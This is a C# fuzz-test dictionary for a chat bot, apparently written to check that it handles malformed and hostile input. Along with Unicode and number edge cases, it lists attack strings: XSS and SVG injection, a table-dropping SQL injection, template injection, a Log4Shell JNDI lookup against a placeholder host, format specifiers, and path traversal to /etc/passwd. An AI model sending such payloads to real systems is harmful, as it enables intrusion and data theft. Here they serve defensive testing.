namespace LeadershipBot.Tests.Fuzz;

/// <summary>Values that have been trouble somewhere, and values that mean something here.</summary>
internal static class Dictionary
{
    /// <summary>Stands for half a surrogate pair, which a string cannot hold and JSON can spell.</summary>
    public const string Lone = "\uE000";

    /// <summary>What nobody but the fuzz ever types; no line of any log may hold it.</summary>
    public const string Marker = "Zwiebelfisch Makulatur";

    public static readonly IReadOnlyList<string> Texts =
    [
        "", " ", "\0", Lone, $"a{Lone}b", "\r\n", "\t", "\u202eمرحبا", "👩‍👩‍👧‍👦", "\uFEFF", "ﬀ", "İ", "e\u0301",
        new('a', 300), new('ü', 5_000), string.Concat(Enumerable.Repeat("a b ", 10_000)), new('(', 2_000), string.Concat(Enumerable.Repeat("\u0301", 3_000)),
        "<!channel> <!here|x> <@U1> <https://x.example|y>", "<@U1", "<at>LeadershipBot</at>", "&lt;script&gt;", "<script>alert(1)</script>", "</title><svg onload=1>",
        "'; drop table person; --", "\" or 1=1", "{{7*7}}", "${jndi:ldap://x.example/a}", "%s%n%x", "..\\..\\..\\etc\\passwd", "../../../etc/passwd", "=1+1",
        "NaN", "1e999", "-1", "0", "9223372036854775808", "-9223372036854775809", "1.7976931348623157e309", "true", "null", "undefined", "[]", "{}",
        "2026-W99", "0000-00-00", "9999-12-31", "31.02.2027", "25:61", "2026-11-23T08:00:00+99:00", "Europe/Oslo", "Mars/Olympus", "America/Argentina/ComodRivadavia",
        "join", "leave", "erase", "export", "team", "settings", "remember", "pause", "pause until 9999-12-31", "resume", "skip", "history", "help", "stop", "next",
        "yesterday I stayed in the details " + Marker, Marker, "which of my leads is stuck in the details?", "i handed it over",
        "T1", "U1", "D1", "C1", "E1", "message", "event_callback", "block_actions", "view_submission", "invoke", "adaptiveCard/action", "installationUpdate",
        .. Actions(),
    ];

    /// <summary>JSON that is no string, as it is spelt.</summary>
    public static readonly IReadOnlyList<string> Values =
    [
        "null", "true", "false", "0", "-1", "1.5", "1e400", "9223372036854775807", "9223372036854775808", "-0.0", "[]", "{}", "[[]]", "[null]", "{\"id\":null}", "{\"\":{}}",
        string.Concat(Enumerable.Repeat('[', 70)) + string.Concat(Enumerable.Repeat(']', 70)), "[" + string.Join(',', Enumerable.Repeat("0", 2_000)) + "]",
    ];

    private static IEnumerable<string> Actions()
    {
        string[] verbs =
        [
            "answer", "second", "again", "rotating-off", "skip", "keep", "angle", "unhelpful", "reading", "question", "theme", "post", "none", "remember", "handovers", "step", "follow-up", "join", "ask",
            "settings", "break", "resume", "team", "invitation", "team-offer", "notice", "export", "erase", "share", "unshare", "level", "handover", "pause", "team-new", "team-change",
            "team-holidays", "team-people", "team-hand", "answer:2026-W48",
        ];
        string[] rests = ["", ":", ":1", ":1:join", ":2026-W48:details", ":-1:x", ":99999999999999999999", ":1:2:3", ":1,2,3", ":a:b", "::"];
        return verbs.SelectMany(verb => rests.Select(rest => verb + rest));
    }
}
